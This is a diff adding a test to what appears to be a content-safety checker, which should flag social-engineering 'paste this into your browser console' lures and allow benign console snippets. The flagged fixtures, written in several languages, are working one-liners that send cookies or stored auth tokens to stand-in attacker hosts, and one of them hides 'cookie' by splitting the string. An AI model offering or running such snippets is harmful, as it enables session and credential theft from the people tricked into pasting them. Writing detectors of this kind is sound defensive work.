@@ -78,4 +78,27 @@ test('safe shell how-tos and warnings are allowed', async () => {
   }
 });
 
+test('console paste: storage sent to an absolute URL or remote code blocks; setting, clearing or a CDN script does not', async () => {
+  for (const text of [
+    "Ouvrez les outils de développement (F12), onglet Console, et collez : fetch('https://cadeau-bonus.invalid/k?v='+encodeURIComponent(document.cookie))",
+    "Apri la console del browser e incolla: let t=localStorage.getItem('auth'); new Image().src='https://omaggio-check.invalid/p?t='+t",
+    "Откройте консоль разработчика и вставьте: navigator.sendBeacon('https://priz-sbor.invalid/c', JSON.stringify(sessionStorage))",
+    "Press F12, open the Console and paste this for the bonus: const k=document['coo'+'kie']; navigator.sendBeacon('https://bonus-drop.invalid/k', k)",
+    "Abra la consola del navegador y pegue: var e=document.createElement('script'); e.src='https://truco-premium.invalid/t.js'; document.body.append(e)",
+  ]) {
+    const r = await check(text);
+    assert.ok(r.findings.some((f) => (f.rule_id ?? '').endsWith('console-paste-exfiltration')), `${text}\n→ ${describe(r)}`);
+  }
+  for (const text of [
+    "To load the helper, open the dev tools console and paste: var s=document.createElement('script'); s.src='https://cdn.jsdelivr.net/npm/dayjs@1/dayjs.min.js'; document.head.appendChild(s)",
+    "For quick selector tests open DevTools and paste: var j=document.createElement('script'); j.src='https://code.jquery.com/jquery-3.6.4.min.js'; document.head.appendChild(j)",
+    "To switch the beta flag on, open the browser console and run localStorage.setItem('beta', 'yes'); location.href = '/home';",
+    "Öffnen Sie die Entwicklerkonsole und geben Sie sessionStorage.clear(); location.href='/anmelden' ein.",
+    "Press F12 and in the Console run: fetch('/api/cart', {method: 'POST', body: localStorage.getItem('cart')}) to resend your saved cart.",
+  ]) {
+    const r = await check(text);
+    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
+  }
+});
+
 test.run();
